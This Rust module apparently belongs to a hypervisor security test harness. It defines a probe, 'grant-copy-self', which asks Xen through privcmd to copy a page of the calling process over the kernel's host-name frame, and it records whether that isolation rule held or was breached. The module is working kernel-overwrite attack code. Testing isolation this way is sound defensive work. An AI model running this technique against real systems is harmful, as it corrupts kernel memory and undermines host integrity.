//! Xen copies between any two frames of the caller, and the kernel's are among them; no pointer is the kernel's.

use super::{Attack, Level};
use crate::calls::{domain, number};
use crate::layout::GrantCopy;
use crate::outcome::{Outcome, breached, held};
use crate::witness::{HostName, frame_of_image, frame_of_own, is_pv, version_works};
use crate::xen::{Buffer, PAGE, Privcmd};

pub(super) const ATTACK: Attack = Attack {
    id: "grant-copy-self",
    rule: "B3",
    level: Level::Integrity,
    summary: "grant_table_op(copy) between frames of oneself: a page of the process is copied over one of the kernel",
    needs: "privcmd",
    observed: "the kernel's host name changes without a system call",
    healthy: true,
    timeout_s: super::USUAL_S,
    run,
    twin: || version_works(&Privcmd::open()?),
};

fn run() -> Outcome {
    const COPY: u64 = 5;
    let privcmd = Privcmd::open()?;
    let name = HostName::marked()?;
    let text = Buffer::with(b"copied-by-xen\0")?;
    let (mut source, mut target) = (frame_of_own(text.address())?, frame_of_image(name.address)?);
    if is_pv()? {
        for frame in [&mut source, &mut target] {
            match privcmd.machine_frame(*frame) {
                Ok(machine) => *frame = machine,
                Err(error) => return held(format!("the machine frame cannot be learnt: {error:#}")),
            }
        }
    }
    let request = Buffer::new(1)?;
    request.put(
        0,
        &GrantCopy {
            source,
            source_domain: domain::SELF,
            source_offset: 0,
            source_end: 0,
            target,
            target_domain: domain::SELF,
            target_offset: u16::try_from(name.address % PAGE as u64)?,
            target_end: 0,
            length: 14,
            flags: 0,
            status: 1,
            end: 0,
        },
    );
    let answer = privcmd.hypercall(number::GRANT_TABLE_OP, [COPY, request.address(), 1, 0, 0]);
    let status = request.get::<GrantCopy>(0).status;
    if name.changed()? { breached(name.told()?) } else { held(format!("copy: {answer:?}, status {status}")) }
}
